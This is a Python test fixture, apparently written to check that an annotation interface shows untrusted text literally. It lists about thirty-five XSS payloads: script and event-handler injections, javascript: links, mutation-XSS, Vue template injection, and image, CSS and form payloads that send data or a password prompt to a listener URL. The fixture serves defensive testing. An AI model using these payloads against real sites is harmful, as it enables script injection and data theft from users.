"""Hostile texts for the tests that check what annotators and researchers see: each must show as
the characters it is made of, and none may run.

A payload that runs calls ``shiftlabXss(name)`` (the browser test installs that function and counts
the calls), shows a dialog, or sends a request to ``exfil`` (the URL of a listener the test runs):
a text that ran is counted whichever way it went off. ``corpus(exfil)`` gives (name, text) pairs.
"""

from __future__ import annotations

LONG_SENTENCE = "A long text keeps every character, including this one: < & >. "


def corpus(exfil: str) -> list[tuple[str, str]]:
    """(name, text) of every payload; ``exfil`` is the listener's base URL (no trailing slash)."""
    return [
        ("img-onerror-alert", "<img src=x onerror=alert(1)>"),
        ("img-onerror", "Before <img src=x onerror=\"shiftlabXss('img-onerror')\"> after"),
        ("img-exfil", f'<img src="{exfil}/img?k=" onerror="this.onerror=null; this.src+=localStorage.length">'),
        ("script", "<script>shiftlabXss('script')</script>"),
        # A closed tag pair sends Argilla's UI through its same-origin <iframe srcdoc> path.
        ("closed-tag-script", "<b>bold</b><script>shiftlabXss('closed-tag-script')</script>"),
        ("closed-tag-img", "<i>x</i><img src=x onerror=\"shiftlabXss('closed-tag-img')\">"),
        ("svg-onload", '<svg onload="shiftlabXss(\'svg-onload\')"><circle r="5"></circle></svg>'),
        ("svg-script", "<svg><script>shiftlabXss('svg-script')</script></svg>"),
        ("iframe-srcdoc", "<iframe srcdoc=\"<script>shiftlabXss('iframe-srcdoc')</script>\"></iframe>"),
        ("iframe-js", "<iframe src=\"javascript:shiftlabXss('iframe-js')\"></iframe>"),
        ("object-js", "<object data=\"javascript:shiftlabXss('object-js')\"></object>"),
        ("embed", f'<embed src="{exfil}/embed">'),
        ("details-ontoggle", "<details open ontoggle=\"shiftlabXss('details-ontoggle')\"><summary>s</summary>"),
        ("autofocus", "<input autofocus onfocus=\"shiftlabXss('autofocus')\">"),
        ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=shiftlabXss('mxss-noscript')>\">"),
        ("anchor-js", "<a href=\"javascript:shiftlabXss('anchor-js')\">click me</a>"),
        ("quote-break", "\" onmouseover=\"shiftlabXss('quote-break')\" x=\"' onfocus='shiftlabXss(1)'"),
        ("markdown-link-js", "[click me](javascript:shiftlabXss('markdown-link-js'))"),
        ("markdown-image-js", "![a picture](javascript:shiftlabXss('markdown-image-js'))"),
        ("markdown-image-exfil", f"![tracker]({exfil}/markdown-image.png)"),
        ("autolink-js", "<javascript:shiftlabXss('autolink-js')>"),
        ("autolink-exfil", f"<{exfil}/autolink> and a bare URL {exfil}/bare"),
        ("entities", "&lt;b&gt;not bold&lt;/b&gt; &amp; &amp;amp; &#60;script&#62; &quot;q&quot; &nbsp;|"),
        ("style-tag", "<style>body { display: none }</style>styled?"),
        ("style-attr", f'<div style="background:url({exfil}/css)">background</div>'),
        ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={exfil}/meta">'),
        ("base-href", f'<base href="{exfil}/">'),
        ("form", f'<form action="{exfil}/form"><button>Submit your password</button></form>'),
        ("comment", "visible <!-- hidden comment --> visible"),
        ("vue-template", "{{ 7 * 7 }} {{ constructor.constructor('shiftlabXss(\"vue-template\")')() }} ${7*7}"),
        ("vue-directive", '<div v-html="\'<img src=x onerror=shiftlabXss(1)>\'" @click="shiftlabXss(2)">v</div>'),
        ("unicode-rtl", "مرحبا <b>بالعالم</b> \u202egnirts desrever\u202c zero\u200bwidth émoji 🧪 中文"),
        ("newlines", "line one\nline two\n\n\nafter blank lines\r\nCRLF\rCR\ttab   three spaces"),
        ("backslashes", "C:\\new\\table \\<b\\> \\\\ \\n \\u003cscript\\u003e"),
        ("long", LONG_SENTENCE * 400 + "<img src=x onerror=\"shiftlabXss('long')\">"),
    ]
